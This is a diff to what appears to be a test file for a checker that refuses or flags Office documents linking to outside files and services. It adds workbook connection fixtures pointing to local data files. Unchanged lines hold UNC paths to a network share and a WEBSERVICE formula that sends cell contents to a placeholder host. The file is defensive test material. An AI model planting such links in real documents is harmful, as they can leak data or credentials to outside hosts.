@@ -186,6 +186,16 @@ def test_u10_a_link_to_a_file_of_a_machine_or_a_share_is_refused(check, relation
             "xl/connections.xml",
             "connections",
         ),
+        book(
+            r'<connection id="1"><textPr sourceFile="C:\Users\sari\data.csv"/></connection>', "xl/connections.xml", "connections"
+        ),
+        book(r'<connection id="1" odcFile="D:\sumber\data.odc"/>', "xl/connections.xml", "connections"),
+        book('<connection id="1" sourceFile="C:/sumber/data.mdb"/>', "xl/connections.xml", "connections"),
+        book(
+            r'<connection id="1"><dbPr connection="Provider=x;Data Source=C:\data\a.mdb;Mode=Read"/></connection>',
+            "xl/connections.xml",
+            "connections",
+        ),
         files.office("docx", {"docProps/app.xml": r"<Properties><HyperlinkBase>\\10.0.0.9\a</HyperlinkBase></Properties>"}),
         files.office("xlsx", {"xl/drawings/v.vml": r'<xml><imagedata src="\\10.0.0.9\a.png"/></xml>'}),
         files.office("xlsx", {"xl/drawings/v.vml": r'<xml><p><imagedata src="\\10.0.0.9\a.png"/></xml>'}),
@@ -223,6 +233,9 @@ FLAGGED = {
     ), ["ambil"]),
     "query of a database": ("xlsx", book(
         '<connection id="1"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1"/></connection>', "xl/connections.xml", "c"
+    ), ["ambil"]),
+    "text beside the workbook": ("xlsx", book(
+        '<connection id="1"><textPr sourceFile="data.csv"/></connection>', "xl/connections.xml", "c"
     ), ["ambil"]),
     "web service": ("xlsx", book('<f>_xlfn.WEBSERVICE("https://contoh.invalid/"&amp;A1)</f>'), ["ambil"]),
     "of Google Sheets": ("xlsx", book(
